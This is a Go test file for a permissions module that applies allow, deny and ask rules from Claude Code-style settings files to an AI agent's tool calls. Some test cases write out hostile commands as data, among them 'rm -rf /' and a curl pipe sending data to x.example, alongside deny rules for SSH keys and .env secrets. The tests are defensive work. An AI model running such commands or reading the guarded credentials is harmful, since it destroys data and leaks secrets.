package permissions

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
)

// project writes settings files into a temporary project and loads them.
func project(t *testing.T, user, proj, local string) (*Settings, string, string) {
	t.Helper()
	home, dir := t.TempDir(), t.TempDir()
	for path, body := range map[string]string{
		filepath.Join(home, ".claude", "settings.json"):      user,
		filepath.Join(dir, ".claude", "settings.json"):       proj,
		filepath.Join(dir, ".claude", "settings.local.json"): local,
	} {
		if body == "" {
			continue
		}
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return Load(Files(home, dir), home, dir), home, dir
}

func args(kv ...string) jsontext.Value {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	b, _ := json.Marshal(m)
	return b
}

func TestDecide(t *testing.T) {
	s, home, dir := project(t,
		`{"permissions":{"deny":["Read(~/.ssh/**)"],"allow":["Bash(git diff:*)"]}}`,
		`{"permissions":{"allow":["Bash(npm run test:*)","Edit(src/**)","mcp__echo__echo","Bash(ls *)"],"deny":["Read(./.env)","Bash(curl:*)","Edit(/locked/**)"],"ask":["Bash(git push:*)"]}}`,
		`{"permissions":{"allow":["Read(//etc/hosts)","Agent(reviewer)"],"deny":["mcp__danger"]}}`)
	cases := []struct {
		tool string
		args jsontext.Value
		want Kind
		rule string
	}{
		{"read", args("path", ".env"), Deny, "Read(./.env)"},
		{"read", args("path", filepath.Join(dir, ".env")), Deny, "Read(./.env)"},
		{"read", args("path", "sub/.env"), "", ""},
		{"read", args("path", filepath.Join(home, ".ssh", "id_rsa")), Deny, "Read(~/.ssh/**)"},
		{"read", args("path", "/etc/hosts"), Allow, "Read(//etc/hosts)"},
		{"bash", args("command", "npm run test -- -x"), Allow, "Bash(npm run test:*)"},
		{"bash", args("command", "npm run test"), Allow, "Bash(npm run test:*)"},
		{"bash", args("command", "npm run testing"), "", ""},
		{"bash", args("command", "git diff HEAD && npm run test"), Allow, "Bash(git diff:*)"},
		{"bash", args("command", "git diff && rm -rf /"), "", ""},
		{"bash", args("command", "echo hi | curl -d @- x.example"), Deny, "Bash(curl:*)"},
		{"bash", args("command", "git push origin main"), Ask, "Bash(git push:*)"},
		{"bash", args("command", "ls"), Allow, "Bash(ls *)"},
		{"bash", args("command", "ls -la"), Allow, "Bash(ls *)"},
		{"bash", args("command", "lsof"), "", ""},
		{"bg", args("action", "start", "command", "curl x"), Deny, "Bash(curl:*)"},
		{"write", args("path", "src/a/b.go", "content", "x"), Allow, "Edit(src/**)"},
		{"edit", args("path", "src/b.go"), Allow, "Edit(src/**)"},
		{"write", args("path", "locked/x", "content", "x"), Deny, "Edit(/locked/**)"},
		{"write", args("path", "other.go", "content", "x"), "", ""},
		{"task", args("subagent_type", "reviewer", "prompt", "p"), Allow, "Agent(reviewer)"},
		{"task", args("subagent_type", "writer", "prompt", "p"), "", ""},
	}
	for _, c := range cases {
		got, r := s.Decide(c.tool, c.args)
		rule := ""
		if r != nil {
			rule = r.Text
		}
		if got != c.want || rule != c.rule {
			t.Errorf("%s %s: %q by %q, want %q by %q", c.tool, c.args, got, rule, c.want, c.rule)
		}
	}
	if len(s.Problems) != 0 {
		t.Errorf("problems: %v", s.Problems)
	}
}

// Deny wins over allow whatever the files' order; a symlink to a denied
// file is denied too.
func TestDenyWins(t *testing.T) {
	s, _, dir := project(t, `{"permissions":{"allow":["Read"]}}`, `{"permissions":{"deny":["Read(.env)"]}}`, `{"permissions":{"allow":["Read(./.env)"]}}`)
	if err := os.WriteFile(filepath.Join(dir, ".env"), []byte("S=1"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".env", filepath.Join(dir, "innocent")); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{".env", "deep/dir/.env", "innocent"} {
		if k, _ := s.Decide("read", args("path", p)); k != Deny {
			t.Errorf("read %s: %q, want deny", p, k)
		}
	}
	if k, _ := s.Decide("read", args("path", "README")); k != Allow {
		t.Errorf("read README: %q, want allow (bare Read)", k)
	}
}

func TestHiddenPaths(t *testing.T) {
	s, _, dir := project(t, "", `{"permissions":{"deny":["Read(./.env)","Read(./secrets/**)","Read(.env.*)","Read(./missing)","Read","Read(//tmp/**)","Read(./**)"]}}`, "")
	for _, f := range []string{".env", "secrets/k", "a/b/.env.prod", ".env.local"} {
		p := filepath.Join(dir, f)
		_ = os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	got := s.HiddenPaths()
	slices.Sort(got)
	want := []string{filepath.Join(dir, ".env"), filepath.Join(dir, ".env.local"), filepath.Join(dir, "a/b/.env.prod"), filepath.Join(dir, "secrets")}
	if !slices.Equal(got, want) {
		t.Errorf("hidden %v, want %v", got, want)
	}
}

func TestProblemsAndModes(t *testing.T) {
	s, home, dir := project(t, `{"permissions":{"defaultMode":"plan","additionalDirectories":["~/shared"]}}`,
		`{"permissions":{"allow":["Bash(unclosed"],"defaultMode":"acceptEdits","additionalDirectories":["../lib"]}}`, `not json`)
	if s.DefaultMode != "acceptEdits" || !strings.HasSuffix(s.DefaultModeSource, filepath.Join(".claude", "settings.json")) {
		t.Errorf("defaultMode %q from %q: the project's should win", s.DefaultMode, s.DefaultModeSource)
	}
	wantDirs := []string{filepath.Join(home, "shared"), filepath.Join(filepath.Dir(dir), "lib")}
	if len(s.AdditionalDirectories) != 2 || s.AdditionalDirectories[0].Path != wantDirs[0] || s.AdditionalDirectories[1].Path != wantDirs[1] {
		t.Errorf("additionalDirectories %v, want %v", s.AdditionalDirectories, wantDirs)
	}
	if len(s.Problems) != 2 || !strings.Contains(s.Problems[0], "Bash(unclosed") || !strings.Contains(s.Problems[1], "settings.local.json") {
		t.Errorf("problems: %q", s.Problems)
	}
}

// AddAllow keeps the file's other members and adds each rule once.
func TestAddAllow(t *testing.T) {
	p := filepath.Join(t.TempDir(), ".claude", "settings.local.json")
	if err := AddAllow(p, []string{"Bash(go:*)"}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(`{"hooks":{"Stop":[]},"permissions":{"deny":["Read(x)"],"allow":["Bash(go:*)"]}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := AddAllow(p, []string{"Bash(go:*)", "mcp__echo__echo"}); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Hooks       map[string]any      `json:"hooks"`
		Permissions map[string][]string `json:"permissions"`
	}
	b, _ := os.ReadFile(p)
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Hooks == nil || !slices.Equal(doc.Permissions["deny"], []string{"Read(x)"}) || !slices.Equal(doc.Permissions["allow"], []string{"Bash(go:*)", "mcp__echo__echo"}) {
		t.Errorf("file after AddAllow: %s", b)
	}
	if fi, _ := os.Stat(p); fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want the file's 0600 kept", fi.Mode().Perm())
	}
	if got := RuleOf([]string{"bash", "cmd", "go"}); got != "Bash(go:*)" {
		t.Errorf("RuleOf bash: %q", got)
	}
	if got := RuleOf([]string{"edit", "tool"}); got != "" {
		t.Errorf("RuleOf edit: %q, want none (session only, as Claude Code)", got)
	}
}

// WebSearch rules speak of web_search (Claude Code's name for it).
func TestWebSearchRules(t *testing.T) {
	s, _, _ := project(t, `{"permissions":{"deny":["WebSearch"]}}`, "", "")
	if k, r := s.Decide("web_search", args("query", "go")); k != Deny || r == nil {
		t.Fatalf("deny WebSearch: %q", k)
	}
	s, _, _ = project(t, `{"permissions":{"allow":["WebSearch"]}}`, "", "")
	if k, _ := s.Decide("web_search", args("query", "go")); k != Allow {
		t.Fatalf("allow WebSearch: %q", k)
	}
}
